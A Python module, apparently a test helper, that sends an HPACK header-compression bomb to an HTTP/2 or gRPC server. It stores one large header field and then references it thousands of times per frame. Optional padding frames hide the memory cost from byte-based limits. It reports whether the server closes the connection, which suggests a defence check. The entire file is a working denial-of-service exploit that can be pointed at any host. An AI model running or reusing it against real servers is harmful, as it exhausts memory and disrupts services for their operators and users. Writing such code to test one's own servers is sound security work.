"""HTTP/2 headers that are small on the wire and large when decoded: they refer to one large field many times."""

import asyncio
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS, ACK, END_HEADERS = 1, 4, 1, 4
UNKNOWN = 0xFA  # a type of frames that HTTP/2 does not define: receivers ignore them
PADDING_BYTES = 16_000
FIELD_BYTES = 3800  # fits into the 4 KiB table that every HTTP/2 server keeps per connection
REFERENCES = 15_000
STORED = b"\xbe"  # refers to the newest field in the connection's table
PATH = b"/grpc.health.v1.Health/Check"
ENDED_S = 1.0


def encode_frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def _text(text: bytes) -> bytes:
    """Return a text with its length, as HPACK writes it."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    left, length = len(text) - 127, bytearray([127])
    while left >= 128:
        length.append(left & 127 | 128)
        left >>= 7
    return bytes([*length, left]) + text


CALL = b"".join(
    b"\0" + _text(name) + _text(value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", PATH),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


async def send_bomb(port: int, budget_bytes: int, host: str = "127.0.0.1", padding: int = 0) -> bool:
    """Send headers of `budget_bytes` in all on one connection; return whether the server closed the connection.

    `padding` is the number of harmless frames behind each frame of headers, which raise the number of sent bytes and so
    hide how much memory the headers cost the server.
    """
    reader, writer = await asyncio.open_connection(host, port)
    ended = asyncio.ensure_future(_read_all(reader))
    try:
        store = b"\x40" + _text(b"n" * FIELD_BYTES) + _text(b"v")
        writer.write(PREFACE + encode_frame(SETTINGS, 0, 0) + encode_frame(SETTINGS, ACK, 0))
        writer.write(encode_frame(HEADERS, END_HEADERS, 1, CALL + store))
        body, behind = CALL + STORED * REFERENCES, encode_frame(UNKNOWN, 0, 0, bytes(PADDING_BYTES)) * padding
        for number in range(1, 1 + budget_bytes // (len(body) + len(behind))):
            if ended.done():
                break
            writer.write(encode_frame(HEADERS, END_HEADERS, 1 + 2 * number, body) + behind)
            await writer.drain()
        await asyncio.wait({ended}, timeout=ENDED_S)
    except OSError:
        await asyncio.wait({ended}, timeout=ENDED_S)
    finally:
        was_cut = ended.done()
        ended.cancel()
        writer.transport.abort()
    return was_cut


async def _read_all(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(65536):
            pass
